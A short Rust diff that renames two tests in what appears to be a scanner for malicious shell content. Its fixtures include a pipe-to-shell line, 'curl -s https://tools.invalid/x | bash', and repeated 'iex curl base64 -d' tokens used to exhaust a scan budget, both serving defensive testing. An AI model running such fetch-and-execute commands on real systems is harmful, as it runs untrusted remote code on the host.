@@ -81,7 +81,7 @@ mod tests {
     }
 
     #[test]
-    fn side_by_side_is_found_what_is_found_in_a_row() {
+    fn parallel_scan_equals_sequential() {
         let attack = "curl -s https://tools.invalid/x | bash\n";
         let plain = |n: usize| format!("echo {n}\n{attack}").repeat(2_000);
         let [in_a_row, side_by_side] = scanned_both_ways(&[0, 1, 2, 3, 4, 5].map(plain));
@@ -90,7 +90,7 @@ mod tests {
     }
 
     #[test]
-    fn the_budget_runs_out_in_the_same_file_and_for_the_same_rules() {
+    fn budget_ends_at_the_same_file_and_rules() {
         let flood = |n: usize| "iex curl base64 -d ".repeat(if n == 3 { 10 } else { 40_000 });
         let [in_a_row, side_by_side] = scanned_both_ways(&[0, 1, 2, 3, 4, 5, 6, 7].map(flood));
         let exhausted = |found: &[Finding]| found.iter().filter(|one| one.rule == "scan-budget").count();
